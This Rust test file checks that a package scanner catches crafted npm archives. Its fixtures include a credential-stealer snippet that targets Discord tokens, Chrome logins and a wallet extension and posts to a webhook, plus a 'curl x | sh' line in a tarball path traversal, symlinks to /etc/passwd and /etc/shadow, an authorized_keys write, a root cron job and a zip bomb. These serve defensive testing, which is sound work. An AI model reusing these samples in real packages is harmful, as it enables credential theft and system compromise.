//! Archives built byte by byte in memory: what a crafted archive hides must reach the
//! static pass, the version diff and the rules (issue 19). Each test failed before the
//! archive reader read every gzip member and reported archive tricks.

#![allow(clippy::unwrap_used)]

use std::io::Write;
use std::path::Path;

use airlock_events::Ecosystem;
use airlock_static::{ids, scan_archive_bytes, ScanOptions, ScanReport};

/// A ustar entry with `name`/`link` written as raw bytes (so `..` gets through).
fn entry(name: &str, typeflag: u8, data: &[u8], link: &str) -> Vec<u8> {
    let mut h = tar::Header::new_ustar();
    h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
    h.as_old_mut().linkname[..link.len()].copy_from_slice(link.as_bytes());
    h.set_size(data.len() as u64);
    h.set_mode(0o644);
    h.as_old_mut().linkflag[0] = typeflag;
    h.set_cksum();
    let mut out = h.as_bytes().to_vec();
    out.extend_from_slice(data);
    out.resize(out.len() + (512 - data.len() % 512) % 512, 0);
    out
}

fn gz(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

/// A tar with `files` under `package/`, ended properly.
fn tar(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut t = Vec::new();
    for (name, data) in files {
        t.extend(entry(&format!("package/{name}"), b'0', data, ""));
    }
    t.extend([0u8; 1024]);
    t
}

const MANIFEST: &[u8] = br#"{"name":"innocent","version":"1.0.0","main":"index.js"}"#;

/// The Windows grabber shape the stealer analyzer knows (see `stealer.rs`).
const STEALER: &[u8] = br#"const path = require('path'), { execSync } = require('child_process');
const local = process.env.LOCALAPPDATA, roaming = process.env.APPDATA;
const paths = [roaming + '\\discord\\Local Storage\\leveldb', local + '\\Google\\Chrome\\User Data\\Default\\Login Data'];
const ext = path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn');
fetch('https://discord.com/api/webhooks/1045000289708687390/aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789_-aBcDeFgHiJkLmNoPqRsTuVwXyZ012', { method: 'POST' });
"#;

/// npm installs every member of a concatenated gzip; the second one holds the stealer.
fn two_member_tgz() -> Vec<u8> {
    let mut bytes = gz(&tar(&[
        ("package.json", MANIFEST),
        ("index.js", b"module.exports = 1;\n"),
    ]));
    bytes.extend(gz(&tar(&[("lib/steal.js", STEALER)])));
    bytes
}

fn scan(bytes: &[u8]) -> ScanReport {
    scan_archive_bytes(bytes, Path::new("t.tgz"), &ScanOptions::default()).unwrap()
}

fn has(r: &ScanReport, id: &str, file: &str) -> bool {
    r.signals.iter().any(|s| s.signal == id && s.file == file)
}

fn rules() -> airlock_rules::Ruleset {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules");
    airlock_rules::Ruleset::load_dir(&dir).unwrap()
}

fn fired(r: &ScanReport) -> Vec<String> {
    let j = rules().judge_static("innocent", Ecosystem::Npm, r.events(1000.0));
    j.findings.iter().map(|f| f.rule.clone()).collect()
}

#[test]
fn second_gzip_member_reaches_the_static_pass() {
    let r = scan(&two_member_tgz());
    assert!(
        has(&r, ids::STEALER_TARGETS, "lib/steal.js"),
        "{:#?}",
        r.signals
    );
    assert!(has(&r, ids::EXFIL_CREDENTIAL, "lib/steal.js"));
    assert!(r.count(ids::ARCHIVE_CONCATENATED_GZIP) == 1);
    assert!(r.is_complete(), "{:?}", r.incomplete);
    // The archive signals come first, before the manifest's.
    assert!(r.signals[0].signal.starts_with("archive-"));
    let f = fired(&r);
    assert!(f.iter().any(|r| r == "static-credential-stealer"), "{f:?}");
}

#[test]
fn second_gzip_member_reaches_the_diff() {
    let tmp = tempfile::tempdir().unwrap();
    let old = tmp.path().join("innocent-1.0.0.tgz");
    let new = tmp.path().join("innocent-1.0.1.tgz");
    std::fs::write(
        &old,
        gz(&tar(&[
            ("package.json", MANIFEST),
            ("index.js", b"module.exports = 1;\n"),
        ])),
    )
    .unwrap();
    std::fs::write(&new, two_member_tgz()).unwrap();
    let opts = ScanOptions::default();
    let files = airlock_static::read_package(&new, &opts).unwrap();
    assert!(files.iter().any(|f| f.rel == "lib/steal.js"));
    let d = airlock_static::diff::diff_archives(&old, &new, &opts, None).unwrap();
    let text = format!("{d:?}");
    assert!(text.contains("lib/steal.js"), "{text}");
    // What `airlock diff` judges: the new side's static pass.
    let scan = airlock_static::scan_files(&files, &opts, std::time::Instant::now());
    assert!(has(&scan, ids::STEALER_TARGETS, "lib/steal.js"));
    assert!(scan.count(ids::ARCHIVE_CONCATENATED_GZIP) == 1);
}

#[test]
fn each_archive_trick_is_a_finding() {
    let cases: &[(&str, Vec<u8>, &str, &str)] = &[
        (
            "dot-dot",
            entry("package/../../.bashrc", b'0', b"curl x | sh", ""),
            ids::ARCHIVE_PATH_TRAVERSAL,
            "static-archive-path-escape",
        ),
        (
            "symlink out",
            entry("package/passwd", b'2', b"", "/etc/passwd"),
            ids::ARCHIVE_LINK_OUTSIDE,
            "static-archive-path-escape",
        ),
        (
            "hardlink out",
            entry("package/shadow", b'1', b"", "../../etc/shadow"),
            ids::ARCHIVE_LINK_OUTSIDE,
            "static-archive-path-escape",
        ),
        (
            "write through a symlink",
            [
                entry("package/home", b'2', b"", "../../../home/user"),
                entry(
                    "package/home/.ssh/authorized_keys",
                    b'0',
                    b"ssh-rsa AAAA",
                    "",
                ),
            ]
            .concat(),
            ids::ARCHIVE_PATH_TRAVERSAL,
            "static-archive-path-escape",
        ),
        (
            "absolute path",
            entry("/etc/cron.d/job", b'0', b"* * * * * root sh", ""),
            ids::ARCHIVE_ABSOLUTE_PATH,
            "static-archive-absolute-path",
        ),
        (
            "device",
            entry("package/mem", b'3', b"", ""),
            ids::ARCHIVE_DEVICE_FILE,
            "static-archive-device-file",
        ),
        (
            "shadowing duplicate",
            [
                entry("package/index.js", b'0', b"module.exports = 1;", ""),
                entry("package/index.js", b'0', b"require('child_process')", ""),
            ]
            .concat(),
            ids::ARCHIVE_DUPLICATE_ENTRY,
            "static-archive-duplicate-entry",
        ),
        (
            "entry after the end-of-archive marker",
            [vec![0u8; 1024], entry("package/late.js", b'0', b"x", "")].concat(),
            ids::ARCHIVE_MALFORMED,
            "static-archive-malformed",
        ),
    ];
    for (name, trick, id, rule) in cases {
        let mut t = entry("package/package.json", b'0', MANIFEST, "");
        t.extend_from_slice(trick);
        t.extend([0u8; 1024]);
        let r = scan(&gz(&t));
        assert!(r.count(id) >= 1, "{name}: no {id} in {:#?}", r.signals);
        let f = fired(&r);
        assert!(f.iter().any(|x| x == rule), "{name}: {rule} not in {f:?}");
    }
    // A clean package has none of them.
    let r = scan(&gz(&tar(&[("package.json", MANIFEST), ("index.js", b"1")])));
    assert!(!r.signals.iter().any(|s| s.signal.starts_with("archive-")));
    assert!(!fired(&r).iter().any(|x| x.starts_with("static-archive")));
}

#[test]
fn bomb_is_a_finding_and_an_incomplete_pass() {
    let zeros = vec![0u8; 64 << 20];
    let mut t = entry("package/package.json", b'0', MANIFEST, "");
    t.extend(entry("package/zeros.bin", b'0', &zeros, ""));
    t.extend(entry("package/after.js", b'0', STEALER, ""));
    t.extend([0u8; 1024]);
    let r = scan(&gz(&t));
    assert_eq!(r.count(ids::ARCHIVE_BOMB), 1, "{:#?}", r.signals);
    assert!(!r.is_complete());
    assert!(r.count(ids::SCAN_LIMIT) >= 1);
    let f = fired(&r);
    assert!(f.iter().any(|x| x == "static-archive-bomb"), "{f:?}");
}
